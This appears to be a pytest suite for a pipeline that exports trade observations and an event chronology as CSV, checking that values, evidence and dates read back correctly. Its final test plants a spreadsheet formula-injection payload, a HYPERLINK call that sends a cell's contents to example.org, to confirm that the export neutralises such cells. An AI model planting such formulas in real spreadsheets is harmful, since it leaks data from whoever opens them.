"""The tables as CSV: all that the account has, read back as it was, and nothing that a spreadsheet would compute."""

import io
from itertools import product
from typing import Any

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from trading import GERMANY, KENYA, account, chronology_csv, event, evidence, observation, read_csv, trade_csv

from pipeline.records import Entity

TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=30)
COMPUTED = ("=", "+", "-", "@", "\t", "\r", "\n")
"""How a cell begins that some spreadsheet would compute."""


def test_a_row_holds_codes_words_and_its_evidence() -> None:
    also = evidence("coffee was sold", 3, "survey")
    said = account([observation(bound="lower", approximate=True, evidence=(evidence("Kenya sold\n coffee", 2), also))])
    [row] = read_csv(trade_csv(said))
    assert {
        k: row[k] for k in ("id", "what", "measure", "kind", "unit", "reporter", "partner", "flow", "commodity")
    } == {
        "id": said.observations[0].id,
        "what": "Exports of coffee",
        "measure": "exports",
        "kind": "level",
        "unit": "USD",
        "reporter": "KEN",
        "partner": "DEU",
        "flow": "export",
        "commodity": "coffee",
    }
    assert float(row["value"]) == 240e6
    assert (row["bound"], row["approximate"]) == ("lower", "True")
    assert (row["source"], row["paragraph"], row["also"]) == ("report", "2", "survey:3")
    assert row["quote"] == "Kenya sold coffee"


def test_a_derived_value_shows_its_sum_and_interval_and_what_it_comes_from() -> None:
    level, change = observation(), observation(12.5, kind="change", unit="percent", compared_period="2018")
    base = observation(
        213e6, period="2018", evidence=(), derived_from=(level.id, change.id), derivation="240 / 1.125", low=212e6,
        high=214e6, status="E",
    )  # fmt: skip
    row = next(r for r in read_csv(trade_csv(account([level, change, base]))) if r["derivation"])
    assert (row["derivation"], row["derived_from"].split(), row["status"]) == (
        "240 / 1.125",
        [level.id, change.id],
        "E",
    )
    assert (float(row["low"]), float(row["high"])) == (212e6, 214e6)
    assert (row["source"], row["paragraph"], row["quote"]) == ("", "", "")


def test_values_in_conflict_are_both_in_the_table() -> None:
    said = account([observation(240e6), observation(250e6, evidence=(evidence("250", 1, "survey"),))])
    found = {(float(r["value"]), r["source"]) for r in read_csv(trade_csv(said))}
    assert found == {(240e6, "report"), (250e6, "survey")}


def test_pandas_reads_numbers_as_numbers_and_paragraphs_as_integers() -> None:
    said = account([observation(240e6), observation(-5.25, kind="change", unit="percent"), observation(7, period=None)])
    table = pd.read_csv(io.BytesIO(trade_csv(said)))
    assert sorted(table["value"]) == [-5.25, 7, 240e6]
    assert list(table["paragraph"]) == [1, 1, 1]
    assert table["paragraph"].dtype.kind == "i"


def test_the_chronology_holds_each_event_in_order_with_names_for_ids() -> None:
    said = account(
        events=[
            event("Moi visited Bonn", actors=(KENYA.id,), places=(GERMANY.id,), kind="visit"),
            event("The trade fair opened", "1982", when_basis="inferred", why="the year of the sentence before"),
            event("A visit to Cairo", None, realis="cancelled"),
        ]
    )
    rows = read_csv(chronology_csv(said))
    assert [(r["when"], r["title"], r["realis"]) for r in rows] == [
        ("1981-09-12", "Moi visited Bonn", "happened"),
        ("1982", "The trade fair opened", "happened"),
        ("", "A visit to Cairo", "cancelled"),
    ]
    assert (rows[0]["actors"], rows[0]["places"], rows[0]["date"]) == ("Kenya", "Germany", "12 Sep 1981")
    assert (rows[1]["basis"], rows[1]["date"], rows[1]["why"]) == (
        "inferred",
        "[1982]",
        "the year of the sentence before",
    )
    assert (rows[2]["basis"], rows[2]["date"]) == ("", "undated")


def test_an_account_with_nothing_gives_tables_with_heads_alone() -> None:
    empty = account(entities=())
    for data in (trade_csv(empty), chronology_csv(empty)):
        assert read_csv(data) == []
        assert data.startswith(b"id,")
        assert data.endswith(b"\r\n")


@settings(deadline=None, max_examples=40)
@given(title=TEXT, goods=TEXT, quote=TEXT)
def test_text_is_read_back_whatever_it_holds(title: str, goods: str, quote: str) -> None:
    quoted = (evidence(quote),)
    said = account([observation(commodity=goods, evidence=quoted)], [event(title, evidence=quoted)])
    [row], [happening] = read_csv(trade_csv(said)), read_csv(chronology_csv(said))
    assert row["commodity"].removeprefix("'") == goods.removeprefix("'")
    assert happening["title"].removeprefix("'") == title.removeprefix("'")
    assert row["quote"].removeprefix("'") == " ".join(quote.split()).removeprefix("'")
    assert not any(cell.startswith(COMPUTED) for cell in (*row.values(), *happening.values()) if cell != row["value"])


@pytest.mark.parametrize(
    ("start", "field"), [*product(COMPUTED, ["title", "when_text", "why", "actor", "commodity", "reporter", "quote"])]
)
def test_no_text_of_a_source_is_computed_by_a_spreadsheet(start: str, field: str) -> None:
    attack = f'{start}HYPERLINK("http://example.org/?"&A1,"open")'
    plain = {"title": "An opening", "when_text": "1981", "why": "a guess", "commodity": "tea", "reporter": "KEN"}
    given: dict[str, Any] = {**plain, "actor": "The board", "quote": "Kenya sold tea", field: attack}
    quoted = (evidence(given["quote"]),)
    board = Entity(id="organisation-1", kind="organisation", name=given["actor"], evidence=quoted)
    goods = {k: given[k] for k in ("commodity", "reporter")}
    dated = {k: given[k] for k in ("why", "when_text")}
    said = account(
        [observation(evidence=quoted, **goods)],
        [event(given["title"], evidence=quoted, actors=(board.id,), **dated)],
        [board, KENYA, GERMANY],
    )
    for row in (*read_csv(trade_csv(said)), *read_csv(chronology_csv(said))):
        assert [cell for cell in row.values() if cell.startswith(COMPUTED)] == []
